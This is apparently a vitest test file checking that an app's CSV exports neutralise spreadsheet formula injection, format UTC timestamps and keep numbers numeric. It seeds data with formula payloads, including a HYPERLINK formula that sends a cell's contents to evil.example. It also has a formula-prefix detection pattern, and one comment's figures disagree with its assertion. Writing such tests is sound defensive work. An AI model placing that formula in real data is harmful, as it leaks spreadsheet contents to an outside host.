import { parse } from 'csv-parse/sync'
import { beforeAll, describe, expect, test } from 'vitest'
import { db } from '#app/utils/db.server.ts'
import { type Language } from '#app/utils/i18n.ts'
import { requestAs, routeArgs, run } from '#tests/helpers.ts'

/**
 * Every CSV the Academy produces, downloaded as staff in both languages and read back with a real
 * CSV reader: text that a spreadsheet would run as a formula is neutralised, numbers are numbers,
 * instants are `YYYY-MM-DD HH:MM` in UTC, and headers carry no form hints.
 */

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&C2,"Open")'
const FORMULAS = [HYPERLINK, '+1+2', '-2+3', '@SUM(A1:A9)', '\tTabbed', '\rCarriage']
const FORMULA_START = /^[=+\-@\t\r]/
const STAMP = /^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/
const HINTS = /\((optional|opcional)\)|e\.g\.|p\. ej\.|when scheduling|al programar/i

type Export = {
	name: string
	load: () => Promise<{ loader: (args: never) => Promise<unknown> }>
	path: string
	params: Record<string, string>
	email: string
}
const EXPORTS: Export[] = [
	{
		name: 'roster',
		load: () => import('#app/routes/cohorts.$cohortId.roster[.]csv.tsx'),
		path: '/cohorts/panama-2025/roster.csv',
		params: { cohortId: 'panama-2025' },
		email: 'staff@example.org',
	},
	{
		name: 'progress',
		load: () => import('#app/routes/cohorts.$cohortId.progress[.]csv.tsx'),
		path: '/cohorts/panama-2025/progress.csv',
		params: { cohortId: 'panama-2025' },
		email: 'staff@example.org',
	},
	{
		name: 'invitations',
		load: () => import('#app/routes/cohorts.$cohortId.invitations[.]csv.tsx'),
		path: '/cohorts/panama-2025/invitations.csv',
		params: { cohortId: 'panama-2025' },
		email: 'staff@example.org',
	},
	{
		name: 'actions',
		load: () => import('#app/routes/roadmaps.$delegationId.actions[.]csv.tsx'),
		path: '/roadmaps/panama-2025-pa/actions.csv',
		params: { delegationId: 'panama-2025-pa' },
		email: 'staff@example.org',
	},
	{
		name: 'indicators',
		load: () => import('#app/routes/roadmaps.$delegationId.indicators[.]csv.tsx'),
		path: '/roadmaps/panama-2025-pa/indicators.csv',
		params: { delegationId: 'panama-2025-pa' },
		email: 'staff@example.org',
	},
	{
		name: 'assistance',
		load: () => import('#app/routes/assistance.requests[.]csv.tsx'),
		path: '/assistance/requests.csv',
		params: {},
		email: 'staff@example.org',
	},
	{
		name: 'costing sheet',
		load: () => import('#app/routes/worksheets.costing-sheet[.]csv.tsx'),
		path: '/worksheets/costing-sheet.csv',
		params: {},
		email: 'staff@example.org',
	},
]

async function download(spec: Export, language: Language) {
	await db.updateTable('users').set({ language }).where('email', '=', spec.email).execute()
	const { loader } = (await spec.load()) as unknown as { loader: (args: unknown) => Promise<Response> }
	const query = spec.name === 'costing sheet' ? `?lng=${language}` : ''
	const result = await run(async () => loader(routeArgs(await requestAs(spec.email, `${spec.path}${query}`), spec.params)))
	expect(result.status, spec.name).toBe(200)
	const text = await result.response!.text()
	const [header, ...rows] = parse(text.replace(/^\uFEFF/, ''), { relax_column_count: false }) as string[][]
	return {
		header: header!,
		rows,
		column: (name: string | RegExp) => header!.findIndex((h) => (typeof name === 'string' ? h === name : name.test(h))),
	}
}

beforeAll(async () => {
	// A delegate, an invitation, an action, an indicator and a TA request, each with formula text.
	const delegate = await db.selectFrom('users').select('id').where('email', '=', 'delegate.pa@example.org').executeTakeFirstOrThrow()
	await db.updateTable('users').set({ name: HYPERLINK, last_login_at: '2026-12-01T14:05:33.123Z' }).where('id', '=', delegate.id).execute()
	await db
		.updateTable('delegation_members')
		.set({ organisation: '+1+2', position: '@SUM(A1:A9)' })
		.where('user_id', '=', delegate.id)
		.execute()
	const { createInvitation } = await import('#app/features/cohorts/invitations.server.ts')
	const staff = await db.selectFrom('users').select('id').where('email', '=', 'staff@example.org').executeTakeFirstOrThrow()
	await createInvitation({
		cohortId: 'panama-2025',
		delegationId: 'panama-2025-pa',
		role: 'delegate',
		email: 'formula@example.org',
		name: '-2+3',
		createdBy: staff.id,
	})

	const roadmap = await db.selectFrom('roadmaps').select('id').where('delegation_id', '=', 'panama-2025-pa').executeTakeFirstOrThrow()
	const edit = async (kind: string, change: (data: Record<string, unknown>) => Record<string, unknown>) => {
		const item = await db
			.selectFrom('roadmap_items')
			.select(['id', 'data'])
			.where('roadmap_id', '=', roadmap.id)
			.where('kind', '=', kind)
			.orderBy('id')
			.executeTakeFirstOrThrow()
		await db
			.updateTable('roadmap_items')
			.set({ data: JSON.stringify(change(JSON.parse(item.data) as Record<string, unknown>)) })
			.where('id', '=', item.id)
			.execute()
	}
	await edit('action', (data) => ({ ...data, description: HYPERLINK, lead: '\tTabbed', partners: '\rCarriage' }))
	await edit('indicator', (data) => ({ ...data, statement: '@SUM(A1:A9)', baselineValue: '12.5', targetValue: '-3' }))
	const request = await db.selectFrom('assistance_requests').select('id').orderBy('created_at').executeTakeFirstOrThrow()
	await db
		.updateTable('assistance_requests')
		.set({ need: HYPERLINK, created_at: '2025-03-20T09:30:59.999Z' })
		.where('id', '=', request.id)
		.execute()
})

describe.each(['en', 'es'] as const)('CSV exports in %s', (language) => {
	test.each(EXPORTS.map((spec) => [spec.name, spec]))(
		'%s: no live formula, no form hints, instants in UTC without milliseconds',
		async (_name, spec) => {
			const { header, rows } = await download(spec, language)
			expect(rows.length, spec.name).toBeGreaterThan(0)
			for (const cell of [...header, ...rows.flat()]) {
				// A negative number is a number; any other cell that starts like a formula is text marked with '.
				if (/^-\d+(\.\d+)?$/.test(cell)) continue
				expect(FORMULA_START.test(cell), `${spec.name}: ${JSON.stringify(cell)}`).toBe(false)
				expect(cell, spec.name).not.toMatch(/\d{4}-\d{2}-\d{2}T\d{2}:\d{2}|:\d{2}\.\d{3}Z/)
			}
			for (const name of header) expect(name, spec.name).not.toMatch(HINTS)
			for (const [index, name] of header.entries()) {
				if (!name.includes('(UTC)')) continue
				for (const row of rows) expect(row[index] === '' || STAMP.test(row[index]!), `${spec.name} ${name}: ${row[index]}`).toBe(true)
			}
		},
	)

	test('formula text comes back as the text it was, with a leading apostrophe', async () => {
		const cells = new Set<string>()
		for (const spec of EXPORTS) for (const cell of (await download(spec, language)).rows.flat()) cells.add(cell)
		for (const formula of FORMULAS) expect(cells.has(`'${formula}`), JSON.stringify(formula)).toBe(true)
	})

	test('roster and TA requests: instants as YYYY-MM-DD HH:MM (UTC); the TA request date is labelled as such', async () => {
		const roster = await download(EXPORTS[0]!, language)
		const signIn = roster.column(/\(UTC\)/)
		const delegateRow = roster.rows.find((row) => row[1] === `'${HYPERLINK}`)!
		expect(delegateRow[signIn]).toBe('2026-12-01 14:05')

		const assistance = await download(EXPORTS[5]!, language)
		const requested = assistance.column(language === 'es' ? 'Solicitada el (UTC)' : 'Requested at (UTC)')
		expect(requested).toBeGreaterThanOrEqual(0)
		expect(assistance.header).not.toContain(language === 'es' ? 'Invitada el' : 'Invited at')
		expect(assistance.header.join()).not.toMatch(/Invitada|Invited/)
		expect(assistance.rows.find((row) => row.includes(`'${HYPERLINK}`))![requested]).toBe('2025-03-20 09:30')
	})

	test('progress: numbers of lessons per module (never 3/3), totals and a percentage as numbers', async () => {
		const { header, rows } = await download(EXPORTS[1]!, language)
		const moduleColumns = header.flatMap((name, index) => (/\((of|de) \d+\)$/.test(name) ? [index] : []))
		expect(moduleColumns.length).toBeGreaterThanOrEqual(6)
		for (const row of rows) {
			for (const index of moduleColumns) expect(row[index]).toMatch(/^\d+$/)
			expect(row.join()).not.toMatch(/\d+\/\d+/)
		}
	})

	test('actions and indicators: amounts and values are plain numbers that any locale reads the same', async () => {
		const actions = await download(EXPORTS[3]!, language)
		const amounts = actions.header.flatMap((name, index) => (/(whole units|unidades enteras)\)$/.test(name) ? [index] : []))
		expect(amounts).toHaveLength(2)
		const withCost = actions.rows.filter((row) => row[amounts[0]!] !== '')
		expect(withCost.length).toBeGreaterThan(0)
		for (const row of withCost) for (const index of amounts) expect(row[index]).toMatch(/^\d+$/)
		// Panama's first action: 80,000 committed and 40,000 not (seed), whole dollars.
		const first = actions.rows.find((row) => row.includes(`'${HYPERLINK}`))!
		expect([first[amounts[0]!], first[amounts[1]!]]).toEqual(['120000', '80000'])

		const indicators = await download(EXPORTS[4]!, language)
		const row = indicators.rows.find((r) => r.includes("'@SUM(A1:A9)"))!
		expect(row).toContain('12.5')
		// A negative target is a number, not a formula: written as it is.
		expect(row).toContain('-3')
	})
})
